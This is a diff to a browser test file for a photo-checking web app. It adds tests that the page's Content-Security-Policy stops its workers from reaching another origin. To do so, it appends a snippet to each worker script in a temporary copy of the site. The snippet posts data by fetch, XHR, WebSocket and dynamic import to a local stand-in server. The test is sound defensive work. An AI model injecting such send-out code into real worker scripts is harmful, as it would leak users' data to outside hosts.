@@ -1,8 +1,12 @@
+import { appendFileSync, cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import sharp from 'sharp'
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { ENGINE_NAMES, ENGINES, openChromium } from '../../tools/engines/engines'
 import type { EnginePage } from '../../tools/engines/engine-page'
 import { serveDemo, type DemoHost } from '../../tools/serve/demo-host'
+import { serve, type StaticServer } from '../../tools/serve/serve'
 import { drawJpeg } from '../../tools/pictures/drawn-jpeg'
 import { resetPage, checkOnPage, checkSample, openPage, saveOnPage, type ShownCheck } from '../support/page-driver'
 import { readJpeg } from '../../tools/pictures/read-jpeg'
@@ -10,7 +14,8 @@ import { readJpeg } from '../../tools/pictures/read-jpeg'
 /**
  * The page as it is built, in Firefox and WebKitGTK. WebKitGTK has no WebGL in workers, so its models run on the page
  * itself. Files are given, not drawn there: each engine rasterises vectors and writes JPEGs in its own way. One page of
- * each engine serves all tests, the element's too.
+ * each engine serves all tests, the element's too. In this copy of the site each worker tries to send something to
+ * another origin as soon as it starts.
  */
 interface EngineResult {
   readonly faultless: readonly ShownCheck[]
@@ -24,9 +29,31 @@ let photos: { readonly faultless: Buffer; readonly faulty: Buffer }
 let chromium: EngineResult
 /** A school's page with the element in it. */
 let demo: DemoHost
+/** Another origin, which must hear nothing; the copy of the site; the same without its policy. */
+let stranger: StaticServer
+let site: StaticServer
+let folder: string
+
+/** By every way out that a worker has. Each names the worker and the way in its path. */
+const SEND_AWAY = (origin: string, worker: string): string => `
+;{
+  const at = way => '${origin}/' + way + '/${worker}'
+  fetch(at('fetch'), { mode: 'no-cors', method: 'POST', body: 'pixels' }).catch(() => {})
+  try { const request = new XMLHttpRequest(); request.open('POST', at('xhr')); request.send('pixels') } catch {}
+  try { new WebSocket(at('socket').replace('http', 'ws')) } catch {}
+  import(at('import')).catch(() => {})
+}
+`
+
+function copySite(): void {
+  folder = mkdtempSync(join(tmpdir(), 'zhaojian-policy-'))
+  cpSync('dist', folder, { recursive: true })
+  for (const name of readdirSync(join(folder, 'lib/workers')))
+    appendFileSync(join(folder, 'lib/workers', name), SEND_AWAY(stranger.url, name))
+}
 
 async function checkInEngine(page: EnginePage): Promise<EngineResult> {
-  await openPage(page, inject('site'))
+  await openPage(page, `${site.url}/check/`)
   const faultless = await checkOnPage(page, photos.faultless, 'faultless.png')
   const saved = await saveOnPage(page)
   await resetPage(page)
@@ -58,6 +85,9 @@ beforeAll(async () => {
       wall: { gradient: 14 },
     }),
   }
+  stranger = await serve({ '/': 'tools/serve/blank' })
+  copySite()
+  site = await serve({ '/check/': folder })
   demo = await serveDemo()
   const page = await openChromium()
   try {
@@ -66,7 +96,12 @@ beforeAll(async () => {
     await page.close()
   }
 })
-afterAll(() => demo?.close())
+afterAll(async () => {
+  await demo?.close()
+  await site?.close()
+  await stranger?.close()
+  rmSync(folder, { recursive: true, force: true })
+})
 
 describe.each(ENGINE_NAMES)('%s', name => {
   let page: EnginePage | undefined
@@ -128,4 +163,21 @@ describe.each(ENGINE_NAMES)('%s', name => {
       // machine's fonts decide.
       .toBeGreaterThan(480)
   })
+})
+
+it('from no worker does anything reach another origin, by the policy in the page alone', () =>
+  expect(stranger.requests.map(({ path }) => path)).toEqual([]))
+
+it('without that policy it would: the workers do try', async () => {
+  const html = join(folder, 'index.html')
+  writeFileSync(html, readFileSync(html, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
+  const page = await openChromium()
+  try {
+    await page.goto(`${site.url}/check/`)
+    await expect
+      .poll(() => [...new Set(stranger.requests.map(({ path }) => path))])
+      .toEqual(expect.arrayContaining(['/fetch/face.js', '/fetch/person.js', '/fetch/photo.js', '/xhr/photo.js']))
+  } finally {
+    await page.close()
+  }
 })
